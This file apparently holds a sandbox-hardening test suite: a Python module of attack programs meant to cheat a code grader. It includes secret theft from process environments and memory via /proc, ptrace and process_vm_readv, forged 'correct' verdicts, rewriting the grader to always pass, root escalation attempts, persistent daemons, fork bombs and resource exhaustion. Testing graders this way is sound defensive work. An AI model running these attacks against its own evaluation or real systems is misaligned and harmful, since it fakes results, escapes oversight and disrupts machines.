"""Programs that want more from a grader than a verdict.

Each tries to find the right answer, which has the form of SECRET, and prints
it. `PLACES` in front of each says where to look: more than an attacker knows.
"""

import re
import textwrap

SECRET = re.compile(rb'SECRET-[0-9a-f]{32}')

PRELUDE = r'''
import contextlib, ctypes, glob, os, re, resource, signal, socket, subprocess
import sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
quiet = lambda: contextlib.suppress(Exception)
def show(data):
  for found in re.findall(rb'SECRET-[0-9a-f]{32}', data)[:1]:
    os.write(1, found + b'\n'); os._exit(0)
def look(path):
  with quiet():
    with open(path, 'rb') as f: show(f.read(1 << 20))
def pids():
  seen = {os.getppid(), MAIN, VICTIM, 1}
  with quiet(): seen |= {int(n) for n in os.listdir('/proc') if n.isdigit()}
  return sorted(seen - {os.getpid()})
def detach(then):
  if os.fork(): return
  os.setsid()
  if os.fork(): os._exit(0)
  then()
  os._exit(0)
def stay(*keep):
  argv = [sys.executable, '-I', '-S', '-c', 'import time; time.sleep(99)',
          MARK]
  os.execv(argv[0], argv)
FORGED = b'["correct", "", ""]\n[[1, "0"], "correct", "", ""]\n'
'''

# Attacks that read the secret or reach a file or a process outside.
THEFT = {
    'environment of processes': 'for p in pids(): look(f"/proc/{p}/environ")',
    'arguments of processes': 'for p in pids(): look(f"/proc/{p}/cmdline")',
    'memory of processes': '''
      for p in pids():
        with quiet():
          for line in open(f"/proc/{p}/maps"):
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            if "[heap]" in line or "rw-p" in line and b - a < 1 << 24:
              with quiet(), open(f"/proc/{p}/mem", "rb", 0) as f:
                f.seek(a); show(f.read(b - a))''',
    'gold file': 'look(GOLD)',
    'gold file through another root': '''
      for p in pids(): look(f"/proc/{p}/root{GOLD}")''',
    'gold file through a link': 'os.symlink(GOLD, "l"); look("l")',
    'gold file by search': '''
      for base in (os.path.dirname(GOLD), "/tmp", "/var/tmp", "/dev/shm"):
        for folder, _, names in os.walk(base):
          for name in names[:50]: look(os.path.join(folder, name))''',
    'tcp': '''
      with quiet():
        s = socket.create_connection(("127.0.0.1", PORT), 1)
        show(s.recv(100))''',
    'unix socket': '''
      with quiet():
        s = socket.socket(socket.AF_UNIX); s.connect(UNIX)
        show(s.recv(100))''',
}

# Attacks with other aims.
OTHERS = {
    'own environment': 'show(repr(dict(os.environ)).encode())',
    'memory by process_vm_readv': '''
      class V(ctypes.Structure):
        _fields_ = [("p", ctypes.c_void_p), ("n", ctypes.c_size_t)]
      for p in pids():
        with quiet():
          for line in open(f"/proc/{p}/maps"):
            a, b = (int(x, 16) for x in line.split()[0].split("-"))
            if b - a < 1 << 22:
              buf = ctypes.create_string_buffer(b - a)
              v, w = V(ctypes.addressof(buf), b - a), V(a, b - a)
              read = libc.process_vm_readv
              read(p, ctypes.byref(v), 1, ctypes.byref(w), 1, 0)
              show(buf.raw)''',
    'ptrace': '''
      for p in pids():
        if libc.ptrace(16, p, 0, 0) == 0: look(f"/proc/{p}/environ")''',
    'reply through /proc': '''
      for p in pids():
        for fd in range(64):
          with quiet():
            os.write(os.open(f"/proc/{p}/fd/{fd}", os.O_WRONLY), FORGED)''',
    'reply through descriptors': '''
      for fd in range(1024):
        with quiet(): os.write(fd, FORGED)''',
    'reply on stdout': 'os.write(1, FORGED)',
    'reply on stderr': 'os.write(2, FORGED)',
    'file outside': '''
      for path in (OUT, "/tmp/" + MARK, "/var/tmp/" + MARK, "/dev/shm/" + MARK,
                   "/" + MARK, os.path.expanduser("~root/") + MARK):
        with quiet(): open(path, "w").write("was here")''',
    'another grader': '''
      with quiet():
        open(GRADER, "a").write("\\ndef grade(*a): return 'correct'\\n")''',
    'rights of root': '''
      for call in (os.setuid, os.seteuid):
        with quiet(): call(0)
      libc.unshare(0x10000000); libc.mount(b"/", b"/tmp", None, 0x1000, None)
      libc.chroot(b"/proc/1/root"); look(GOLD)''',
    'limits of others': '''
      for p in pids():
        with quiet(): resource.prlimit(p, resource.RLIMIT_CPU, (1, 1))
      resource.setrlimit(resource.RLIMIT_AS, (1 << 40, 1 << 40))''',
    'daemon': 'detach(stay)',
    'daemon with stdout': '''
      detach(lambda: (time.sleep(0.05), os.write(1, FORGED), stay()))''',
    'many daemons': 'for _ in range(10): detach(stay)',
    'daemon that forks on': '''
      def run():
        for s in (1, 2, 15): signal.signal(s, signal.SIG_IGN)
        while True:
          with quiet():
            if os.fork(): os._exit(0)
      detach(run)''',
    'fork bomb': '''
      while True:
        with quiet(): os.fork()''',
    'threads': '''
      with quiet():
        for _ in range(500):
          threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
      os._exit(0)''',
    'disk': '''
      for i in range(100):
        with open(f"f{i}", "wb") as f: f.write(bytes(8 << 20))''',
    'many files': '''
      for i in range(10 ** 6): open(f"f{i}", "w").close()''',
    'deep folders': '''
      with quiet():
        for _ in range(3000): os.mkdir("d"); os.chdir("d")
      os.chmod(".", 0)''',
    'memory': 'x = bytearray(b"x") * (4 << 30)',
    'memory of many': '''
      for _ in range(20):
        if not os.fork(): break
      x = bytearray(b"x") * (200 << 20); time.sleep(5)''',
    'memory without a process': '''
      for _ in range(100):
        libc.ftruncate(libc.memfd_create(b"x", 0), 1 << 30)
        libc.shmget(0, 1 << 30, 0o1600)''',
    'signals': '''
      for p in (MAIN, os.getppid()):
        for s in (signal.SIGUSR1, signal.SIGSTOP):
          if p > 1 and (s == signal.SIGUSR1 or p != MAIN):
            with quiet(): os.kill(p, s)''',
    'signals to groups': '''
      signal.signal(signal.SIGUSR1, signal.SIG_IGN)
      with quiet(): os.killpg(os.getpgid(MAIN), signal.SIGUSR1)
      with quiet(): os.killpg(os.getpgid(os.getppid()), 9)
      with quiet(): os.killpg(0, 9)''',
    'endless output': 'while True: os.write(1, b"x" * 65536)',
    'endless errors': 'while True: os.write(2, b"x" * 65536)',
    'sleep': 'time.sleep(99)',
    'deaf': '''
      for s in range(1, 65):
        with quiet(): signal.signal(s, signal.SIG_IGN)
      while True: pass''',
    'closed stdout': 'os.close(1); os.close(2); time.sleep(99)',
    'crash': 'os.abort()',
    'recursion': 'def f(): f()\nf()',
    'no text': 'os.write(1, b"\\xff\\xfe\\0\\x1b[2J" * 100)',
    'good end': 'os._exit(0)',
}


def program(body: str, **places: object) -> str:
  """Returns the text of an attack; `places` are its global variables."""
  known = '\n'.join(f'{name} = {value!r}' for name, value in places.items())
  return f'{known}\n{PRELUDE}\n{textwrap.dedent(body)}'
